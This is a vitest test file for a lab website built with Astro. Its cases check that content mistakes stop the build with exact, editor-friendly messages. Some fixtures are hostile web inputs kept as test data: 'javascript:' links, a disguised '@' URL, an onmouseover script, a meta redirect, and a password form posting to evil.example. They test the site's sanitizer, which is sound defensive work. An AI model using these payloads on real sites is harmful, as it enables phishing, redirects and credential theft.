import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { root, siteConfigWith } from './helpers/build';
import { projectPositions } from '../src/lib/model/queries';
import {
  checkContent,
  contentProblems,
  LEGAL_PAGES as legal,
  readContent,
  VALID_LAB as valid,
} from './helpers/content';
import { build } from './helpers/sites';

const bib = (entry: string) => ({
  'publications/papers.bib': `${valid['publications/papers.bib']}\n${entry.trim()}\n`,
});

const position = (frontMatter: string) => `---\n${frontMatter.trim()}\n---\nBody.\n`;

interface Case {
  mistake: string;
  /**
   * How the case is checked: by the loaders' steps, the schemas and the site model without a build (the default,
   * test/helpers/content.ts), or by a build, for what only Astro does and a few of each kind besides.
   */
  via?: 'build';
  content?: Record<string, string>;
  site?: Record<string, string>;
  env?: Record<string, string>;
  /** The message the editor reads, exactly: the file, the field, what was expected and what was found. */
  message: string;
}

const cases: Case[] = [
  {
    mistake: 'a misspelled key',
    via: 'build',
    content: { 'pages/about.md': '---\ntitle: About\nnav: true\nnav_ordr: 3\n---\nx\n' },
    message: 'src/content/pages/about.md: nav_ordr: unknown key; did you mean "nav_order"?',
  },
  {
    mistake: 'mistakes in several files and collections',
    via: 'build',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace('2024-01-31', '2024-02-30'),
      'pages/notes.md': '---\ntitle: Notes\nnav_ordr: 3\n---\nx\n',
      'pages/about.md': '---\nnav: true\n---\nx\n',
      ...bib('@misc{roe2023,\n  title = {Another Paper},\n  author = {Roe, Richard},\n}'),
    },
    // Every file's, collection by collection in the order of their names and file by file, whichever Astro reads
    // first: an editor fixes them all before the next build.
    message: [
      'src/content/pages/about.md: title: required, but missing (expected a title as text)',
      'src/content/pages/notes.md: nav_ordr: unknown key; did you mean "nav_order"?',
      'src/content/positions/phd.md: deadline: "2024-02-30" is not a date in the calendar',
      'src/content/publications/papers.bib:8: roe2023: year: required: the year of publication, e.g. year = {2024}',
    ].join('\n'),
  },
  {
    mistake: 'a missing title',
    content: { 'pages/about.md': '---\nnav: true\n---\nx\n' },
    message: 'src/content/pages/about.md: title: required, but missing (expected a title as text)',
  },
  {
    mistake: 'an impossible date',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('2024-01-31', '2024-02-30') },
    message: 'src/content/positions/phd.md: deadline: "2024-02-30" is not a date in the calendar',
  },
  {
    mistake: 'a date in another format',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('posted: 2024-01-01', 'posted: 01.01.2024') },
    message:
      'src/content/positions/phd.md: posted: expected a date written as YYYY-MM-DD (e.g. 2024-01-31), found "01.01.2024"',
  },
  {
    mistake: 'an unknown project id',
    via: 'build',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('project: 2022_themis', 'project: 2022_themsi') },
    message:
      'src/content/positions/phd.md: project: no project has the id "2022_themsi". Expected the file name (without .md) of a project in src/content/projects; the projects are: 2022_themis.',
  },
  {
    mistake: 'a javascript: apply link',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace('https://jobs.example.org/1', '"javascript:alert(1)"'),
    },
    message:
      'src/content/positions/phd.md: apply_url: expected a web address starting with https:// or http://, found "javascript:alert(1)"',
  },
  {
    mistake: 'a title of only invisible characters',
    content: { 'pages/about.md': '---\ntitle: "\\u200B\\u200B"\n---\nAbout us.\n' },
    message: 'src/content/pages/about.md: title: a title has only invisible characters',
  },
  {
    mistake: 'a control character in a title',
    content: { 'pages/about.md': '---\ntitle: "About\\x0bus"\n---\nAbout us.\n' },
    message:
      'src/content/pages/about.md: title: a title contains the control character U+000B at position 6 (often pasted from a word processor); delete it',
  },
  {
    mistake: 'a space before the front matter',
    content: { 'pages/about.md': ' ---\ntitle: About\n---\nAbout us.\n' },
    message:
      'src/content/pages/about.md: the front matter must start on the first line with ---, with nothing before it; remove the spaces or empty lines above it (as it is, the page would show it as text)',
  },
  {
    mistake: 'a file that is not saved as UTF-8',
    content: { 'pages/about.md': Buffer.from('---\ntitle: Caf\xe9\n---\nx\n', 'latin1').toString('utf8') },
    message:
      'src/content/pages/about.md: the file is not saved as UTF-8 (line 2 has a character that cannot be read); save it as UTF-8 in your editor',
  },
  {
    mistake: 'old Mac line endings',
    content: { 'pages/about.md': '---\rtitle: About\r---\rAbout us.\r' },
    message:
      'src/content/pages/about.md: the lines of the file end in a carriage return alone (old Mac line endings); save it with LF or CRLF line endings',
  },
  {
    mistake: 'front matter in TOML',
    content: { 'pages/about.md': '+++\ntitle = "About"\n+++\nAbout us.\n' },
    message:
      'src/content/pages/about.md: the front matter is written in TOML (between +++ lines); write it in YAML between --- lines',
  },
  {
    mistake: 'an apply link that hides where it leads',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace(
        'https://jobs.example.org/1',
        'https://jobs.uni-rostock.de@evil.example/apply',
      ),
    },
    message:
      'src/content/positions/phd.md: apply_url: expected a web address without a name or password before "@" (it would lead to the part after it), found "https://jobs.uni-rostock.de@evil.example/apply"',
  },
  {
    mistake: 'a permalink that climbs out of its folder',
    content: { 'pages/about.md': '---\ntitle: About\npermalink: /../about/\n---\nx\n' },
    message:
      'src/content/pages/about.md: permalink: expected a path without "." or ".." folders and without %-escapes, such as /join-us/, found "/../about/"',
  },
  {
    mistake: 'a permalink the build uses itself',
    content: { 'pages/search.md': '---\ntitle: Search\npermalink: /pagefind/\n---\nx\n' },
    message:
      'src/content/pages/search.md: permalink: "/pagefind/" is reserved for the files the build writes; choose another permalink',
  },
  {
    mistake: 'no way to apply',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace(/apply_url: .*\n/, '') },
    message:
      'src/content/positions/phd.md: apply_url: a position needs apply_url or apply_email (or both), so that people can apply',
  },
  {
    mistake: 'an unknown kind',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('kind: phd', 'kind: [phd, professor]') },
    message:
      'src/content/positions/phd.md: kind: expected one of phd, postdoc, student_assistant, thesis, staff (or a list of them), found ["phd","professor"]',
  },
  {
    mistake: 'a deadline before the posting',
    content: {
      'positions/phd.md': position(
        'title: PhD\nkind: phd\nposted: 2024-02-01\ndeadline: 2024-01-31\napply_email: a@example.org',
      ),
    },
    message: 'src/content/positions/phd.md: deadline: the deadline 2024-01-31 is before the posted date 2024-02-01',
  },
  {
    mistake: 'an unknown contract type',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('kind: phd', 'kind: phd\nemployment: fulltime') },
    message:
      'src/content/positions/phd.md: employment: expected one of full_time, part_time, temporary, intern, other (or a list of them), found "fulltime"',
  },
  {
    mistake: 'a country name instead of its code',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace(
        'kind: phd',
        'kind: phd\nlocation:\n  city: Rostock\n  country: Germany',
      ),
    },
    message:
      'src/content/positions/phd.md: location.country: expected a two-letter country code such as "DE", found "Germany"',
  },
  {
    mistake: "a page on a position's URL",
    content: { 'pages/phd.md': '---\ntitle: PhD\npermalink: /positions/phd/\n---\nx\n' },
    message: `Two files claim the URL /positions/phd/:
  - src/content/pages/phd.md
  - src/content/positions/phd.md (the position's page)
Give one of them another permalink.`,
  },
  {
    mistake: 'two pages with one permalink',
    via: 'build',
    content: { 'pages/jobs.md': '---\ntitle: Jobs\npermalink: /join-us\n---\nx\n' },
    message: `Two files claim the URL /join-us/:
  - src/content/pages/jobs.md
  - src/content/pages/join-us.md
Give one of them another permalink.`,
  },
  {
    mistake: "a page on a project's URL",
    content: { 'pages/themis.md': '---\ntitle: THEMIS page\npermalink: /projects/2022_themis/\n---\nx\n' },
    message: `Two files claim the URL /projects/2022_themis/:
  - src/content/pages/themis.md
  - src/content/projects/2022_themis.md (the project's page)
Give one of them another permalink.`,
  },
  {
    mistake: 'an unknown layout',
    content: { 'pages/about.md': '---\nlayout: about\ntitle: About\n---\nx\n' },
    message: 'src/content/pages/about.md: layout: expected one of "page", "home", found "about"',
  },
  {
    mistake: 'a child page that does not exist',
    content: {
      'pages/join-us.md':
        '---\ntitle: Join us\npermalink: /join-us/\nnav: true\ndropdown: true\nchildren:\n  - title: Overview\n    permalink: /join-us/overview/\n  - title: divider\n  - title: PhD\n    permalink: /join-us/phd/\n---\nx\n',
      'pages/join-us/overview.md': '---\ntitle: Overview\n---\nx\n',
    },
    message:
      'src/content/pages/join-us.md: children: the child "PhD" links to /join-us/phd/, but no page has that permalink. Expected the permalink of a page in src/content/pages (or a full https:// address for an external link).',
  },
  {
    mistake: 'a dropdown without children',
    content: { 'pages/about.md': '---\ntitle: About\nnav: true\ndropdown: true\n---\nx\n' },
    message: 'src/content/pages/about.md: children: a page with dropdown: true needs a list of children',
  },
  {
    mistake: 'a YAML syntax error',
    via: 'build',
    content: { 'pages/about.md': '---\ntitle: About\nchildren: [\n---\nx\n' },
    message:
      'src/content/pages/about.md:3: the front matter is not valid YAML: unexpected end of the stream within a flow collection',
  },
  {
    mistake: 'a picture that is not there',
    via: 'build',
    content: {
      'projects/2022_themis.md': valid['projects/2022_themis.md']!.replace(
        'start: 2022',
        'start: 2022\nimage: ./themis.jpg',
      ),
    },
    message:
      'src/content/projects/2022_themis.md: image: there is no picture at ./themis.jpg (looked for src/content/projects/themis.jpg)',
  },
  {
    mistake: 'a picture given as a web address',
    content: {
      'projects/2022_themis.md': valid['projects/2022_themis.md']!.replace(
        'start: 2022',
        'start: 2022\nimage: https://example.org/a.jpg',
      ),
    },
    message:
      'src/content/projects/2022_themis.md: image: expected the path of a picture relative to this file, such as ./image.jpg, found "https://example.org/a.jpg"',
  },
  {
    mistake: 'a position written in MDX',
    content: {
      'positions/extra.mdx': position('title: Extra\nkind: phd\nposted: 2024-01-01\napply_email: a@example.org'),
    },
    message:
      'src/content/positions/extra.mdx: positions are written in markdown (.md), because their description is also published as HTML for job search engines and the feed; rename the file to .md.',
  },
  {
    mistake: 'a file name with a space',
    content: { 'projects/Big Data.md': valid['projects/2022_themis.md']! },
    message:
      'src/content/projects/Big Data.md: the file name "Big Data" becomes the URL, so it may use only letters, digits, "-", "_" and "."; rename the file to "big-data".',
  },
  {
    mistake: 'a position in a draft project',
    content: {
      'projects/2022_themis.md': valid['projects/2022_themis.md']!.replace('start: 2022', 'start: 2022\ndraft: true'),
    },
    message:
      'src/content/positions/phd.md: project: the project "2022_themis" is a draft (draft: true), so it has no page to link to. Publish the project or remove the project key.',
  },
  {
    mistake: 'yes instead of true',
    content: { 'pages/about.md': '---\ntitle: About\nnav: yes\n---\nx\n' },
    message: 'src/content/pages/about.md: nav: expected true or false, found "yes"',
  },
  {
    mistake: 'tags as one line of text',
    content: {
      'projects/2022_themis.md': valid['projects/2022_themis.md']!.replace('start: 2022', 'start: 2022\ntags: ml, ai'),
    },
    message: 'src/content/projects/2022_themis.md: tags: expected a list of keywords, such as [a, b], found "ml, ai"',
  },
  {
    mistake: 'a permalink that names a file',
    content: { 'pages/about.md': '---\ntitle: About\npermalink: /about.html\n---\nx\n' },
    message:
      'src/content/pages/about.md: permalink: a permalink names a folder, not a file: write /about/ instead of "/about.html"',
  },
  {
    mistake: 'open_positions on the projects index',
    content: { 'pages/projects.md': '---\ntitle: Projects\npermalink: /projects/\nopen_positions: true\n---\nx\n' },
    message:
      'src/content/pages/projects.md: open_positions: this page introduces the list at /projects/, which has a layout of its own; remove the key (the list already shows what it should).',
  },
  {
    mistake: 'no front matter at all',
    content: { 'pages/about.md': 'About the lab, but without the --- block on top.\n' },
    message: 'src/content/pages/about.md: title: required, but missing (expected a title as text)',
  },
  {
    mistake: 'a tab in the front matter',
    via: 'build',
    content: { 'pages/about.md': '---\ntitle: About\n\tnav: true\n---\nx\n' },
    message:
      'src/content/pages/about.md:3: the front matter is not valid YAML: tab characters must not be used in indentation',
  },
  {
    mistake: 'a YAML tag such as !!binary',
    content: { 'pages/about.md': '---\ntitle: !!binary QWJvdXQ=\n---\nx\n' },
    message:
      'src/content/pages/about.md:2: the YAML tag !!binary is not used in front matter; write the value as plain text',
  },
  {
    mistake: 'front matter between +++ lines that is not even TOML',
    content: { 'pages/about.md': '+++\ntitle: About\n+++\nx\n' },
    message:
      'src/content/pages/about.md: the front matter is written in TOML (between +++ lines); write it in YAML between --- lines',
  },
  {
    mistake: 'a deadline with a time',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace(
        'deadline: 2024-01-31',
        'deadline: 2024-01-31T12:00+01:00',
      ),
    },
    message:
      'src/content/positions/phd.md: deadline: expected a day without a time or time zone (a day here ends at midnight in the site\'s time zone), found "2024-01-31T12:00+01:00"; write 2024-01-31',
  },
  {
    mistake: 'a photo that is not a picture',
    content: {
      'people/jane-doe.md': '---\nname: Jane Doe\nrole: pi\nstart: 2020-01-01\nphoto: ./jane-doe-cv.pdf\n---\nBio.\n',
    },
    message:
      'src/content/people/jane-doe.md: photo: expected a picture (.jpg, .jpeg, .png, .webp, .avif, .gif or .svg), found "./jane-doe-cv.pdf"',
  },
  {
    mistake: 'a title in a script the share cards have no letters for',
    via: 'build',
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('title: PhD', 'title: PhD in Beirut (بيروت)') },
    message:
      'src/content/positions/phd.md: the share card cannot show "ب" (U+0628), "ي" (U+064A), "ر" (U+0631), "و" (U+0648), "ت" (U+062A): its fonts have Latin, Greek, Cyrillic, Vietnamese, Chinese, Japanese and Korean letters; write the title and summary in one of those scripts',
  },
  {
    mistake: 'a link to a page that does not exist',
    via: 'build',
    content: {
      'pages/about.md':
        '---\ntitle: About\n---\n\nWe are hiring: see [our positions](/join-su/).\n\nOur papers were at [/al-folio/publications/](/al-folio/publications/).\n',
    },
    message: [
      'src/content/pages/about.md:5: the link /join-su/ leads to no page or file of the site; did you mean /join-us/?',
      'src/content/pages/about.md:7: the link /al-folio/publications/ leads to no page or file of the site',
    ].join('\n'),
  },
  {
    mistake: 'a key written twice',
    content: { 'pages/about.md': '---\ntitle: About\nnav: true\nnav_order: 2\ntitle: About us\n---\nx\n' },
    message: 'src/content/pages/about.md:5: title: this key is written twice in the front matter; keep one of them',
  },
  {
    mistake: 'an empty title',
    content: { 'pages/about.md': '---\ntitle: ""\n---\nx\n' },
    message: 'src/content/pages/about.md: title: a title must not be empty',
  },
  {
    mistake: 'a web address in the e-mail field',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace(
        'kind: phd',
        'kind: phd\napply_email: https://jobs.example.org/1',
      ),
    },
    message:
      'src/content/positions/phd.md: apply_email: expected an e-mail address, found "https://jobs.example.org/1"',
  },
  {
    mistake: 'two files with one name',
    via: 'build',
    content: { 'projects/2022_themis.mdx': valid['projects/2022_themis.md']! },
    message:
      'src/content/projects/2022_themis.md: this file and src/content/projects/2022_themis.mdx have the same name, so they would have the same URL; rename or remove one of them.',
  },
  {
    mistake: 'a key from another al-folio feature',
    content: { 'pages/about.md': '---\ntitle: About\ngiscus_comments: true\n---\nx\n' },
    message:
      'src/content/pages/about.md: giscus_comments: unknown key; the known keys are: title, description, permalink, layout, draft, nav, nav_order, dropdown, children, open_positions',
  },
  {
    mistake: 'a bad time zone in the site config',
    via: 'build',
    site: { timeZone: "'Europe/Rostock'" },
    message: `src/site.config.ts has a problem:
  - timeZone: expected an IANA time zone such as "Europe/Berlin", found "Europe/Rostock"`,
  },
  {
    mistake: "the lab's name in a language the site is not written for",
    site: { name: "{ en: 'Machine Learning Group', fr: 'Groupe d’apprentissage automatique' }" },
    message: `src/site.config.ts has a problem:
  - name.fr: expected one of the languages the site is written for (en, de), found "fr"`,
  },
  {
    mistake: "the lab's name per language without the first language",
    site: { name: "{ de: 'Arbeitsgruppe Maschinelles Lernen' }" },
    message: `src/site.config.ts has a problem:
  - name: expected a value in "en", the site's first language (the others fall back to it), found only "de"`,
  },
  {
    mistake: 'a SITE_NOW that is not a date',
    via: 'build',
    env: { SITE_NOW: '2024-31-01' },
    message:
      'SITE_NOW: expected an ISO date or date-time such as 2024-01-15 or 2024-01-15T09:30+01:00, but "2024-31-01" is not a date in the calendar',
  },
  {
    mistake: 'an unknown person in a project',
    content: {
      'projects/2022_themis.md': valid['projects/2022_themis.md']!.replace(
        'start: 2022',
        'start: 2022\npeople: [jane-doe, john-doe]',
      ),
    },
    message:
      'src/content/projects/2022_themis.md: people: no person has the id "john-doe". Expected the file name (without .md) of a person in src/content/people; the people are: jane-doe.',
  },
  {
    mistake: "an unknown person as a position's contact",
    content: { 'positions/phd.md': valid['positions/phd.md']!.replace('project: 2022_themis', 'contact: jane-do') },
    message:
      'src/content/positions/phd.md: contact: no person has the id "jane-do". Expected the file name (without .md) of a person in src/content/people; the people are: jane-doe.',
  },
  {
    mistake: 'an ORCID iD with a wrong check digit',
    content: {
      'people/jane-doe.md': valid['people/jane-doe.md']!.replace('role: pi', 'role: pi\norcid: 0000-0002-1825-0098'),
    },
    message:
      'src/content/people/jane-doe.md: orcid: "0000-0002-1825-0098" is not a valid ORCID iD: its check digit should be 7; copy the iD from orcid.org',
  },
  {
    mistake: 'a person who leaves before they start',
    content: {
      'people/jane-doe.md': valid['people/jane-doe.md']!.replace(
        'start: 2020-01-01',
        'start: 2020-01-01\nend: 2019-12-31',
      ),
    },
    message: 'src/content/people/jane-doe.md: end: the end 2019-12-31 is before the start 2020-01-01',
  },
  {
    mistake: 'a missing photo',
    content: { 'people/jane-doe.md': valid['people/jane-doe.md']!.replace('role: pi', 'role: pi\nphoto: ./jane.jpg') },
    message:
      'src/content/people/jane-doe.md: photo: there is no picture at ./jane.jpg (looked for src/content/people/jane.jpg)',
  },
  {
    mistake: 'an unknown role',
    content: { 'people/jane-doe.md': valid['people/jane-doe.md']!.replace('role: pi', 'role: professor') },
    message:
      'src/content/people/jane-doe.md: role: expected one of "pi", "postdoc", "phd", "student", "staff", "visitor", found "professor"',
  },
  {
    mistake: 'an event that ends before it starts',
    content: {
      'events/talk.md': '---\ntitle: A talk\nkind: talk\nstart: 2024-03-12T16:15\nend: 2024-03-12T15:45\n---\nx\n',
    },
    message: 'src/content/events/talk.md: end: the end 2024-03-12T15:45 is before the start 2024-03-12T16:15',
  },
  {
    mistake: 'an event time with a time zone',
    content: { 'events/talk.md': '---\ntitle: A talk\nkind: talk\nstart: 2024-03-12T16:15+01:00\n---\nx\n' },
    message:
      'src/content/events/talk.md: start: expected a date (2025-03-12) or a date and time on the site\'s clock (2025-03-12T16:15) without a time zone (times are in the site\'s time zone, which knows summer time), found "2024-03-12T16:15+01:00"; write 2024-03-12T16:15',
  },
  {
    mistake: 'an unknown speaker id',
    via: 'build',
    content: {
      'events/talk.md':
        '---\ntitle: A talk\nkind: talk\nstart: 2024-03-12T16:15\nspeakers: [jane-doe, john-doe, Ada Guest]\n---\nx\n',
    },
    message:
      'src/content/events/talk.md: speakers: no person has the id "john-doe". Expected the file name (without .md) of a person in src/content/people; the people are: jane-doe.',
  },
  {
    mistake: 'an unknown author id',
    content: { 'posts/2024-01-02-hello.md': '---\ntitle: Hello\ndate: 2024-01-02\nauthors: jane\n---\nx\n' },
    message:
      'src/content/posts/2024-01-02-hello.md: authors: no person has the id "jane". Expected the file name (without .md) of a person in src/content/people; the people are: jane-doe.',
  },
  {
    mistake: 'a post date with a time',
    content: { 'posts/2024-01-02-hello.md': '---\ntitle: Hello\ndate: 2024-01-02 15:09:00\n---\nx\n' },
    message:
      'src/content/posts/2024-01-02-hello.md: date: expected a day without a time or time zone (a day here ends at midnight in the site\'s time zone), found "2024-01-02 15:09:00"; write 2024-01-02',
  },
  {
    mistake: 'an unknown term',
    content: {
      'courses/ml.md': '---\ntitle: ML\nterm: WS 2024/25\nlevel: master\nlanguage: en\nects: 6\n---\nx\n',
    },
    message:
      'src/content/courses/ml.md: term: expected a term such as "winter 2024" (the winter semester 2024/25) or "summer 2025", found "WS 2024/25"; write "winter 2024"',
  },
  {
    mistake: 'an unknown lecturer',
    content: {
      'courses/ml.md':
        '---\ntitle: ML\nterm: winter 2024\nlevel: master\nlanguage: en\nlecturers: [jane-doe, max]\n---\nx\n',
    },
    message:
      'src/content/courses/ml.md: lecturers: no person has the id "max". Expected the file name (without .md) of a person in src/content/people; the people are: jane-doe.',
  },
  {
    mistake: 'a formula KaTeX cannot read',
    via: 'build',
    content: {
      'posts/2024-01-02-hello.md': '---\ntitle: Hello\ndate: 2024-01-02\n---\n\nThe sum is $\\frac{1}{$ and more.\n',
    },
    message:
      'src/content/posts/2024-01-02-hello.md:6: the formula "\\\\frac{1}{" cannot be set: Unexpected end of input in a macro argument, expected \'}\' (at character 10 of the formula); write it as LaTeX that KaTeX knows (katex.org/docs/supported), or write \\$ for a dollar sign',
  },
  {
    mistake: 'a BibTeX entry with a missing comma',
    via: 'build',
    content: bib('@inproceedings{roe2023,\n  title = {Another Paper}\n  author = {Roe, Richard},\n  year = {2023},\n}'),
    message:
      'src/content/publications/papers.bib:10: roe2023: the entry is not valid BibTeX: expected a comma or "}" before "author = {Roe, Richa…" (is a comma missing at the end of the line before?)',
  },
  {
    mistake: 'a BibTeX entry without a year',
    content: bib('@misc{roe2023,\n  title = {Another Paper},\n  author = {Roe, Richard},\n}'),
    message:
      'src/content/publications/papers.bib:8: roe2023: year: required: the year of publication, e.g. year = {2024}',
  },
  {
    mistake: 'a citation key used twice',
    content: bib('@misc{doe2024,\n  title = {Another Paper},\n  author = {Roe, Richard},\n  year = 2023,\n}'),
    message:
      'src/content/publications/papers.bib:8: doe2024: the citation key is already used at src/content/publications/papers.bib:1; each entry needs its own key.',
  },
  {
    mistake: 'a PDF that is not in public/papers/',
    content: bib(
      '@misc{roe2023,\n  title = {Another Paper},\n  author = {Roe, Richard},\n  year = 2023,\n  pdf = {roe2023.pdf},\n}',
    ),
    message:
      'src/content/publications/papers.bib:8: roe2023: pdf: there is no file public/papers/roe2023.pdf; put the PDF there or give a full https:// address',
  },
  {
    mistake: 'a translation without an original',
    content: { 'projects/de/2023_ghost.md': '---\ntitle: Geist\nsummary: Ein Projekt.\n---\nText.\n' },
    message:
      'src/content/projects/de/2023_ghost.md: this translation (de/) has no original: expected src/content/projects/2023_ghost.md, with the same file name one folder up.',
  },
  {
    mistake: 'a translated position that sets its own deadline',
    content: { 'positions/de/phd.md': position('title: Promotionsstelle\ndeadline: 2024-02-29') },
    message:
      'src/content/positions/de/phd.md: deadline: a translation takes deadline from its original (src/content/positions/phd.md); remove it here. A translation sets only: title, note, draft.',
  },
  {
    mistake: 'a translation in the language its original is already written in',
    content: {
      'positions/phd.md': valid['positions/phd.md']!.replace('kind: phd', 'kind: phd\nlang: de'),
      'positions/de/phd.md': position('title: Promotionsstelle'),
    },
    message:
      'src/content/positions/de/phd.md: this translation is in de, the language that src/content/positions/phd.md is already written in (lang: de); remove one of them, or change lang in the original.',
  },
  {
    mistake: 'a translated news item',
    content: { 'news/de/2024-01-01-hallo.md': '---\ndate: 2024-01-01\n---\nHallo.\n' },
    message:
      "src/content/news/de/2024-01-01-hallo.md: news are written once, in the site's first language (en); translations of news are not supported. Move the file out of its language folder.",
  },
  {
    mistake: 'a translated list page with an address of its own',
    content: {
      'pages/projects.md': '---\ntitle: Projects\npermalink: /projects/\n---\nOur projects.\n',
      'pages/de/projects.md': '---\ntitle: Projekte\npermalink: /de/projekte/\n---\nUnsere Projekte.\n',
    },
    message:
      'src/content/pages/de/projects.md: permalink: this page introduces the list at /de/projects/, whose address is fixed; remove the permalink (found /de/projekte/).',
  },
  {
    mistake: 'HTML in markdown that could run a script, send visitors elsewhere or collect what they type',
    via: 'build',
    content: {
      'pages/about.md':
        '---\ntitle: About\n---\n\nWelcome <b onmouseover="steal()">here</b>.\n\n[Apply](javascript:alert(1))\n\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n<form action="https://evil.example/"><input name="password"></form>\n',
    },
    message: [
      'src/content/pages/about.md:5: the attribute onmouseover on <b> is not allowed in markdown (no event handlers, styles or form attributes; class, id, title, lang and alt are fine)',
      'src/content/pages/about.md:7: the address "javascript:alert(1)" in href on <a> is not allowed in markdown; a link goes to https://, http://, mailto:, tel: or a path in the site, and a picture is a file or an https:// address',
      'src/content/pages/about.md:9: the element <meta> is not allowed in markdown; allowed are a, b, blockquote, br, code, dd, del, details, div, dl, dt, em, h1, h2, h3, h4, h5, h6, hr, i, img, input, ins, kbd, li, ol, p, picture, pre, q, rp, rt, ruby, s, samp, section, source, span, strike, strong, sub, summary, sup, table, tbody, td, tfoot, th, thead, tr, tt, ul, var, abbr, caption, cite, dfn, figcaption, figure, mark, small, time, u, wbr (for anything else, see "HTML in content" in the README)',
      'src/content/pages/about.md:11: the element <form> is not allowed in markdown; allowed are a, b, blockquote, br, code, dd, del, details, div, dl, dt, em, h1, h2, h3, h4, h5, h6, hr, i, img, input, ins, kbd, li, ol, p, picture, pre, q, rp, rt, ruby, s, samp, section, source, span, strike, strong, sub, summary, sup, table, tbody, td, tfoot, th, thead, tr, tt, ul, var, abbr, caption, cite, dfn, figcaption, figure, mark, small, time, u, wbr (for anything else, see "HTML in content" in the README)',
      'src/content/pages/about.md:11: the element <input> is allowed in markdown only as the checkbox of a task list (write "- [ ]" or "- [x]")',
    ].join('\n'),
  },
  {
    mistake: 'an invisible control character pasted into the text of a page',
    content: { 'pages/about.md': '---\ntitle: About\n---\n\nOur group\u000bworks on learning.\n' },
    message:
      'src/content/pages/about.md: line 5 contains the control character U+000B (often pasted from a word processor, and invisible in most editors); delete it',
  },
  {
    mistake: 'an invisible control character in a BibTeX file',
    content: bib('@misc{doe2023,\n  title = {Form\u000cfeed},\n  author = {Doe, Jane},\n  year = {2023},\n}'),
    message:
      'src/content/publications/papers.bib: line 9 contains the control character U+000C (often pasted from a word processor, and invisible in most editors); delete it',
  },
  {
    mistake: 'an imprint page the site does not have',
    site: { legal: "{ imprint: '/impressum/', privacy: '/privacy/' }" },
    message:
      "src/site.config.ts: legal.imprint: no page has the permalink /impressum/. Expected the permalink of a page in src/content/pages (or the full https:// address of the university's page).",
  },
];

/** The message an editor reads: from the first line that names a file (or SITE_NOW) to the stack trace. */
export function messageOf(output: string): string {
  const lines = output.split('\n');
  const start = lines.findIndex((line) => /^(src\/|Two files|SITE_NOW)/.test(line));
  if (start < 0) return '';
  const end = lines.findIndex(
    (line, index) => index > start && (/^\s+(Stack trace|Location|Hint):?/.test(line) || !line.trim()),
  );
  return lines.slice(start, end < 0 ? undefined : end).join('\n');
}

describe.concurrent("an editor's mistake fails the build and says where and what", () => {
  it.each(cases.filter((c) => c.via !== 'build'))('$mistake', async ({ content, site, env, message }) => {
    expect(await contentProblems({ content: { ...legal, ...valid, ...content }, site, env })).toBe(message);
  });

  it.each(cases.filter((c) => c.via === 'build'))(
    '$mistake (a build)',
    async ({ mistake, content, site, env, message }) => {
      const built = await build({
        content: { ...legal, ...valid, ...content },
        siteConfig: site && (await siteConfigWith(site)),
        env,
      });
      try {
        if (process.env.PRINT_MESSAGES) console.log(`@@ ${mistake}\n${messageOf(built.output)}\n@@`);
        expect(built.ok, built.output).toBe(false);
        expect(messageOf(built.output)).toBe(message);
        // The message is all the editor reads: no stack trace of the site's code under it.
        expect(built.output).not.toMatch(/Stack trace:|\n\s+at .*\.(ts|js|mjs):\d+/);
      } finally {
        await built.cleanup();
      }
    },
  );

  it.each([
    ['a byte-order mark', (source: string) => `\uFEFF${source}`],
    ['Windows line endings (CRLF)', (source: string) => source.replaceAll('\n', '\r\n')],
  ])('but a file with %s is read as written', async (_, save) => {
    const content = { ...legal, ...valid, 'positions/phd.md': save(valid['positions/phd.md']!) };
    const read = await readContent(content);
    if (typeof read === 'string') throw new Error(read);
    expect(read.positions[0]?.data).toMatchObject({ title: 'PhD', deadline: '2024-01-31', project: '2022_themis' });
  });

  it('and the valid lab has none, its project showing its position', async () => {
    const model = await checkContent({ content: { ...legal, ...valid }, env: { SITE_NOW: '2024-01-15' } });
    if (typeof model === 'string') throw new Error(model);
    const [themis] = model.projects;
    expect(projectPositions(model, themis!).map((position) => position.title)).toEqual(['PhD']);
  });
});

/** docs/errors.md: every mistake above, what the editor wrote and the exact message, to search for. */
function renderErrorsDoc(): string {
  const fence = (language: string, text: string) => ['```' + language, text.trimEnd(), '```'].join('\n');
  const sections = cases.map(({ mistake, content, site, env, message }) => {
    const wrote = content
      ? Object.entries(content).map(([path, text]) => `In \`src/content/${path}\`:\n\n${fence('markdown', text)}`)
      : site
        ? Object.entries(site).map(
            ([field, value]) => `In \`src/site.config.ts\`:\n\n${fence('ts', `${field}: ${value},`)}`,
          )
        : Object.entries(env ?? {}).map(([name, value]) => fence('sh', `${name}=${value} npm run build`));
    return [
      `## ${mistake[0]!.toUpperCase()}${mistake.slice(1)}`,
      ...wrote,
      'The build stops with:',
      fence('text', message),
    ].join('\n\n');
  });
  return [
    '# Build errors and what they mean',
    '',
    'Every mistake below stops `npm run build` with the message shown (`npm run dev` prints it in the terminal).',
    'Each message names the file, relative to the project, then the field, what was expected and what was found.',
    'Search this page for the words you see. The examples are the test cases in `test/errors.test.ts`; this page is',
    'written from them (`UPDATE_DOCS=1 npx vitest run test/errors.test.ts`), so it always shows the real messages.',
    '',
    sections.join('\n\n'),
    '',
  ].join('\n');
}

describe('docs/errors.md', () => {
  it('lists every mistake with its exact message', async () => {
    const path = join(root, 'docs/errors.md');
    if (process.env.UPDATE_DOCS) await writeFile(path, renderErrorsDoc());
    expect(await readFile(path, 'utf8')).toBe(renderErrorsDoc());
    expect(cases.length).toBeGreaterThanOrEqual(25);
  });
});
